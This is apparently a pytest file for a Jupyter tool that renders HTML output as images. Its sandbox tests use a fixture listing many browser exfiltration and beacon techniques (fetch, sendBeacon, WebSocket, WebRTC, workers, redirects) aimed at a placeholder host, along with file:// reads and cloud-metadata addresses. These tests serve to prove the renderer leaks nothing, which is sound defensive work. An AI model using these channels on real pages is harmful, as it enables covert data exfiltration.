"""HTML as a picture: what arrives, and that a page reaches nothing while it is drawn."""

from __future__ import annotations

import socket
import threading
from contextlib import closing

import browser_lab
import numpy as np
import pandas as pd
import pytest
from IPython.display import HTML, IFrame
from PIL import Image

from jupyter_claude_vision.errors import (
    MissingPackageError,
    NotVisibleError,
    UnreadableImageError,
)
from jupyter_claude_vision.inputs.html.browser import HtmlBrowser
from jupyter_claude_vision.inputs.registry import InputOptions, is_visible, recognize_input

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(browser_lab.missing() is not None, reason=str(browser_lab.missing())),
]


def fit(width, height):
    return (2576, round(2576 * height / width))


@pytest.fixture(scope="module")
def options():
    with closing(HtmlBrowser(seconds=15)) as browser:
        yield InputOptions(browser=browser)


def drawn(value, options, name="x"):
    raster = recognize_input(value, name, options=options).draw(fit)
    return raster.image.convert("RGB"), raster.notes


def share_of(image, color, distance=60):
    """The share of an image's pixels that are about a color."""
    far = np.abs(np.asarray(image, int) - np.array(color)).sum(axis=2) > distance
    return 1 - far.mean()


RED, GREEN, BLUE = (255, 0, 0), (0, 128, 0), (0, 0, 255)


class SelfShown:
    def _repr_html_(self):
        return '<div style="background: blue; width: 300px; height: 100px"></div>'


class Model:
    """As scikit-learn's: its bundle is HTML, too."""

    def _repr_html_(self):
        return "<b>model</b>"

    def _repr_mimebundle_(self, **_):
        return {"text/plain": "Model()", "text/html": "<b>model</b>"}


class Failing:
    def _repr_html_(self):
        msg = "no server"
        raise RuntimeError(msg)


def test_html_is_cropped_to_its_content_at_twice_its_size(options):
    image, notes = drawn(SelfShown(), options)
    assert image.size == (2 * (300 + 16), 2 * (100 + 16))
    assert share_of(image, BLUE) > 0.8
    assert notes == ()


def test_a_bundle_of_html_is_drawn(options):
    assert is_visible(Model())
    assert drawn(Model(), options)[0].width < 200


def test_a_long_table_is_the_one_that_the_notebook_shows(options):
    frame = pd.DataFrame(np.ones((1000, 40)))
    assert is_visible(frame)
    with pd.option_context("display.max_columns", 4):
        image, notes = drawn(frame, options)
    assert notes == ("first 5 and last 5 of 1,000 rows", "first 2 and last 2 of 40 columns")
    assert 150 < image.width < 800


def test_the_colors_of_a_styler_arrive(options):
    frame = pd.DataFrame({"a": [1, 2], "b": [3, 4]})
    image, _ = drawn(frame.style.set_properties(**{"background-color": "red"}), options)
    assert share_of(image, RED) > 0.2


def test_a_script_of_the_page_runs_before_it_is_drawn(options):
    page = HTML(
        "<div id=a></div><script>setTimeout(() => { a.style = 'height: 90px; width: 90px;"
        " background: green' }, 100)</script>"
    )
    image, _ = drawn(page, options)
    assert share_of(image, GREEN) > 0.5


def test_a_bokeh_chart_is_drawn_without_loading_anything(options):
    from bokeh.layouts import row
    from bokeh.plotting import figure

    chart = figure(width=300, height=200)
    chart.rect([1], [1], 1, 1, color="red")
    image, notes = drawn(row(chart), options)
    assert notes == ()
    assert abs(image.width - 600) < 40
    assert share_of(image, RED) > 0.3


def test_a_map_that_would_load_all_of_itself_is_refused_with_the_hosts(options):
    import folium

    with pytest.raises(NotVisibleError, match="shows nothing without what it loads from cdn"):
        drawn(folium.Map([45, 10]), options)


def test_a_page_within_a_page_is_named_and_not_loaded(options):
    with pytest.raises(NotVisibleError, match="shows nothing without what it loads from example"):
        drawn(IFrame("https://example.com/x", 300, 200), options)


def test_html_that_shows_nothing_or_fails_is_an_error(options):
    with pytest.raises(NotVisibleError, match="x is HTML that shows nothing"):
        drawn(HTML("<style>p {color: red}</style>"), options)
    with pytest.raises(NotVisibleError, match="does not show itself"):
        drawn(Failing(), options)


def test_a_page_that_is_too_long_says_what_is_cut_off(options):
    page = HTML("<div style='height: 7000px; width: 50px; background: blue'></div>")
    image, notes = drawn(page, options)
    assert image.height == 12_000
    assert notes == ("the first 6,000 of 7,016 px of the page",)


class Listener:
    """A server on loopback, TCP and UDP, that counts whoever comes."""

    def __enter__(self):
        self.visits = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        for work in (self._accept, self._receive):
            threading.Thread(target=work, daemon=True).start()
        return self

    def _accept(self):
        while True:
            try:
                connection, address = self._tcp.accept()
            except OSError:
                return
            self.visits.append(("tcp", address))
            connection.close()

    def _receive(self):
        while True:
            try:
                self.visits.append(("udp", self._udp.recvfrom(100)))
            except OSError:
                return

    def __exit__(self, *_):
        self._tcp.close()
        self._udp.close()


HOSTILE = """
<link rel=preconnect href=http://HOST><link rel=dns-prefetch href=http://HOST>
<link rel=prefetch href=http://HOST/prefetch><link rel=stylesheet href=http://HOST/a.css>
<link rel=modulepreload href=http://HOST/m.js><link rel=manifest href=http://HOST/m>
<meta http-equiv=refresh content="0; url=http://HOST/refresh">
<style>@import url(http://HOST/b.css); @font-face {font-family: f; src: url(http://HOST/f.woff)}
body {font-family: f; background: url(http://HOST/bg.png)}</style>
<div style="width: 200px; height: 100px; background: green"></div>
<img src=http://HOST/a.png srcset="http://HOST/b.png 2x"><iframe src=http://HOST/frame></iframe>
<iframe srcdoc="<script>fetch('http://HOST/inner'); new RTCPeerConnection()</script>"></iframe>
<object data=http://HOST/o></object><embed src=http://HOST/e><video src=http://HOST/v></video>
<svg><image href=http://HOST/i.png /><use href=http://HOST/u.svg#a /></svg>
<form id=form method=post action=http://HOST/form></form>
<a id=download download=x href="data:text/plain,x"></a>
<a id=away href=http://HOST/away ping=http://HOST/ping target=_blank></a>
<script src=http://HOST/s.js></script>
<script>
const quietly = work => { try { work(); } catch {} };
quietly(() => fetch("http://HOST/fetch", {method: "POST", body: "x", keepalive: true}));
quietly(() => { const x = new XMLHttpRequest(); x.open("GET", "http://HOST/xhr"); x.send(); });
quietly(() => navigator.sendBeacon("http://HOST/beacon", "x"));
quietly(() => new WebSocket("ws://HOST/socket"));
quietly(() => new EventSource("http://HOST/events"));
quietly(() => new WebTransport("https://HOST/transport"));
quietly(() => window.open("http://HOST/window"));
quietly(() => form.submit());
quietly(() => download.click());
quietly(() => away.click());
quietly(() => navigator.serviceWorker.register("/sw.js"));
quietly(() => import("http://HOST/module.js"));
const work = "fetch('http://HOST/worker'); new WebSocket('ws://HOST/w')";
quietly(() => new Worker(URL.createObjectURL(new Blob([work]))));
quietly(() => {
  const turn = {urls: "turn:HOST?transport=tcp", username: "a", credential: "b"};
  const peer = new RTCPeerConnection({iceServers: [{urls: "stun:HOST"}, turn]});
  peer.createDataChannel("x"); peer.createOffer().then(offer => peer.setLocalDescription(offer));
});
quietly(() => alert("wait")); quietly(() => print());
quietly(() => { location.href = "http://HOST/location"; });
</script>
"""


def test_a_page_reaches_no_server_by_any_way(options):
    with Listener() as server:
        for host in (f"127.0.0.1:{server.port}", f"localhost:{server.port}"):
            image, notes = drawn(HTML(HOSTILE.replace("HOST", host)), options)
            assert share_of(image, GREEN) > 0.01
            assert notes == (f"without what it would have loaded from {host.partition(':')[0]}",)
    assert server.visits == []


def test_private_and_public_addresses_are_refused_at_once(options):
    hosts = ["10.0.0.1", "169.254.169.254", "93.184.216.34", "[::1]", "example.com"]
    pages = "".join(
        f"<img src=http://{host}/a.png><script>fetch('https://{host}/b')</script>" for host in hosts
    )
    _, notes = drawn(HTML(f"<b>here</b>{pages}"), options)
    [note] = notes
    assert note.endswith("10.0.0.1, 169.254.169.254, 93.184.216.34, ::1 and 1 more")


def test_a_page_reads_no_file(options, tmp_path):
    picture, text = tmp_path / "secret.png", tmp_path / "secret.html"
    Image.new("RGB", (300, 200), "red").save(picture)
    text.write_text("<body style='background: red'>secret</body>")
    page = f"""<div style="width: 400px; height: 100px; background: green"></div>
    <img src="file://{picture}"><iframe src="file://{text}"></iframe>
    <object data="file://{text}"></object><embed src="file://{text}">
    <div style="width: 300px; height: 200px; background: url(file://{picture})"></div>
    <script>
    fetch("file://{text}").then(r => r.text()).then(t => document.body.append(t));
    window.open("file://{text}"); location.href = "file://{text}";
    </script>"""
    image, _ = drawn(HTML(page), options)
    assert share_of(image, GREEN) > 0.1
    assert share_of(image, RED) == 0


def test_a_page_keeps_nothing_for_the_next_one(options):
    store = "<script>localStorage.x = 1; document.cookie = 'x=1'</script>"
    show = """<div id=a style="width: 99px; height: 99px"></div><script>
    a.style.background = localStorage.x || document.cookie ? "red" : "green"</script>"""
    drawn(HTML(f"<b>stored</b>{store}"), options)
    image, _ = drawn(HTML(show), options)
    assert share_of(image, GREEN) > 0.5


def test_a_page_that_never_rests_ends_at_the_limit_and_the_next_one_is_drawn():
    with closing(HtmlBrowser(seconds=1)) as browser:
        options = InputOptions(browser=browser)
        with pytest.raises(UnreadableImageError, match=r"x had not come to rest after 1 s"):
            drawn(HTML("<b>x</b><script>for (;;);</script>"), options)
        browser.seconds = 15
        drawn(HTML("<b>x</b>"), options)


def test_a_page_that_reloads_itself_is_drawn_once(options):
    page = "<div style='height: 90px; width: 90px; background: green'></div>"
    image, _ = drawn(HTML(f"{page}<script>location.reload()</script>"), options)
    assert share_of(image, GREEN) > 0.5


def test_without_the_driver_or_a_browser_the_error_says_what_to_install(monkeypatch):
    with closing(HtmlBrowser()) as browser:
        options = InputOptions(browser=browser)
        monkeypatch.setitem(__import__("sys").modules, "playwright.async_api", None)
        with pytest.raises(
            MissingPackageError, match=r'pip install "jupyter-claude-vision\[html\]"'
        ):
            drawn(HTML("<b>x</b>"), options)
        monkeypatch.undo()
        monkeypatch.setenv("PATH", "")
        monkeypatch.setenv("PLAYWRIGHT_BROWSERS_PATH", "/nowhere")
        with pytest.raises(MissingPackageError, match="none was found: install one"):
            drawn(HTML("<b>x</b>"), options)
